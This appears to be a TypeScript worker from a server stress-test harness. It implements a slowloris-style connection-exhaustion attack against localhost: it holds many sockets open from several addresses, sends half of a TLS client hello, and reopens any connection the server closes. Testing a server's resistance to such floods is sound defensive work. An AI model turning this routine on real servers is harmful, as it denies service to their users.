import { connect, type Socket } from 'node:net'
import { attack, pause } from './attacker.ts'

/** Holds connections open from several addresses until it is told to stop, and opens another one for each that is closed. */
export interface PlaceHolder {
  readonly port: number
  readonly from: readonly string[]
  /** Connections from each address. */
  readonly perAddress: number
  /** Whether each sends the beginning of a TLS handshake. */
  readonly handshake: boolean
  /** After a connection was closed, the next one is opened. */
  readonly reopenMs: number
}

export interface PlaceHolderResult {
  readonly opened: number
  readonly closedByPeer: number
}

/** The header of a client hello of 512 bytes. */
const HALF_A_HELLO = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3])
/** Connections that are opened in one go. */
const BATCH = 50

const sockets = new Set<Socket>()
let ended = false
let opened = 0
let closedByPeer = 0

function hold(job: PlaceHolder, from: string): void {
  const socket = connect({ host: '127.0.0.1', port: job.port, localAddress: from })
  sockets.add(socket)
  socket.on('error', () => {})
  socket.once('connect', () => {
    opened++
    if (job.handshake) socket.write(HALF_A_HELLO)
  })
  socket.once('close', () => {
    sockets.delete(socket)
    if (ended) return
    closedByPeer++
    setTimeout(() => {
      if (!ended) hold(job, from)
    }, job.reopenMs)
  })
}

async function holdPlaces(job: PlaceHolder): Promise<PlaceHolderResult> {
  const stopped = new Promise(resolve => process.once('message', resolve))
  for (let i = 0; i < job.perAddress * job.from.length; i++) {
    hold(job, job.from[i % job.from.length]!)
    if (i % BATCH === BATCH - 1) await pause(5)
  }
  await stopped
  ended = true
  const result = { opened, closedByPeer }
  for (const socket of sockets) socket.destroy()
  return result
}

attack(holdPlaces)
